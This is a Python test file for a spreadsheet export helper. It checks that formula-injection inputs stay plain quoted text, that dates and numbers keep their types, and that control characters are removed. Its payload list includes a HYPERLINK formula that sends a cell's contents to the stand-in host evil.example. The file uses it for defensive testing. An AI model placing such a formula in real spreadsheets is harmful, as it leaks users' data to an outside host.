"""Every value reaches a spreadsheet cell safely: text stays text, dates are dates."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from seiteneinsteiger.export.cells import (
    CellValue,
    clean_text,
    put,
    write_only_cell,
    write_only_row,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Klick")',
    "+49 170 1234",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "=1+1",
]


def _round_trip(values: list[CellValue], *, write_only: bool | None) -> tuple[bytes, list[Any]]:
    if write_only:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Blatt")
        for value in values:
            sheet.append([write_only_cell(sheet, value)])
    elif write_only is None:  # the fast row helper of big sheets
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Blatt")
        for value in values:
            sheet.append(write_only_row(sheet, [value]))
    else:
        workbook = Workbook()
        normal = workbook.active
        assert normal is not None
        for row, value in enumerate(values, 1):
            put(normal.cell(row=row, column=1), value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [row[0] for row in loaded.worksheets[0].iter_rows(min_row=1, max_row=len(values))]
    return buffer.getvalue(), cells


MODES = pytest.mark.parametrize(
    "write_only", [False, True, None], ids=["normal", "write-only", "write-only-row"]
)


@MODES
def test_formula_payloads_stay_text_with_quote_prefix(write_only: bool | None) -> None:
    data, cells = _round_trip(list(PAYLOADS), write_only=write_only)
    for payload, cell in zip(PAYLOADS, cells, strict=True):
        assert cell.value == payload
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@MODES
def test_values_keep_their_type(write_only: bool | None) -> None:
    values: list[CellValue] = ["#REF!", "Haddad", dt.date(2013, 2, 11), 7, None, True, False]
    _, cells = _round_trip(values, write_only=write_only)
    ref, name, birth, grade, empty, yes, no = cells
    assert (ref.value, ref.data_type, ref.quotePrefix) == ("#REF!", "s", False)
    assert (name.value, name.data_type) == ("Haddad", "s")
    assert birth.value == dt.datetime(2013, 2, 11)
    assert birth.number_format == "DD.MM.YYYY"
    assert grade.value == 7 and grade.data_type == "n"
    assert empty.value is None
    assert (yes.value, no.value) == ("ja", "nein")


@MODES
def test_control_characters_are_removed_and_line_breaks_kept(write_only: bool | None) -> None:
    values: list[CellValue] = ["Ha\x00dd\x07ad\x1b", "Zeile 1\r\nZeile 2\rZeile 3"]
    _, cells = _round_trip(values, write_only=write_only)
    assert cells[0].value == "Haddad"
    assert cells[1].value == "Zeile 1\nZeile 2\nZeile 3"


def test_a_line_break_first_still_gets_the_quote_prefix() -> None:
    _, cells = _round_trip(["\r=1+1"], write_only=False)
    assert cells[0].value == "\n=1+1"
    assert cells[0].quotePrefix is True


def test_a_merged_cell_is_refused() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.merge_cells("A1:B1")
    with pytest.raises(ValueError, match="B1"):
        put(sheet["B1"], "x")


_XML_SAFE = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"),
    max_size=40,
)


@given(text=_XML_SAFE)
def test_any_text_reads_back_as_its_clean_form(text: str) -> None:
    _, cells = _round_trip([text], write_only=False)
    expected = clean_text(text)
    cell = cells[0]
    assert (cell.value or "") == expected
    if expected:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == bool(re.match(r"[=+\-@\t\n]", expected))
